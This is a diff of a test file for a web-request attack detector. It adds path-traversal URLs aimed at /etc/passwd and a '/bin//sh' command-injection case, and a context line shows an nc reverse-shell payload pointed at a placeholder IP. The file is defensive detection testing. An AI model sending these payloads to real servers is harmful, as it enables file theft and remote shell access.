@@ -130,8 +130,18 @@ const CASES: Record<
       '/cgi-bin/.%2e/.%2e/.%2e/bin/sh',
       '/x?page=/proc/self/environ',
       '/a/..;/b',
+      // An OS file named with doubled, `.` or backslash separators, which the file system reads as the plain name.
+      '/x?page=/etc//passwd',
+      '/x?page=/etc/./passwd',
+      '/x?page=%5cetc%5cpasswd',
     ],
-    no: ['/files/a..b.txt', '/blog/.../post', '/docs/etc/passwords-policy.html', '/x?v=1..2'],
+    no: [
+      '/files/a..b.txt',
+      '/blog/.../post',
+      '/docs/etc/passwords-policy.html',
+      '/x?v=1..2',
+      '/x?u=https://example.com//docs/etc/passwd-explained',
+    ],
   },
   'sql-injection': {
     yes: [
@@ -227,6 +237,7 @@ const CASES: Record<
       '/ping?host=1;nc 203.0.113.5 4444 -e /bin/sh',
       '/x?c=;sleep 5',
       '/x?c=|id;',
+      '/cgi-bin/x?cmd=/bin//sh',
     ],
     no: [
       '/files/?C=M;O=D',
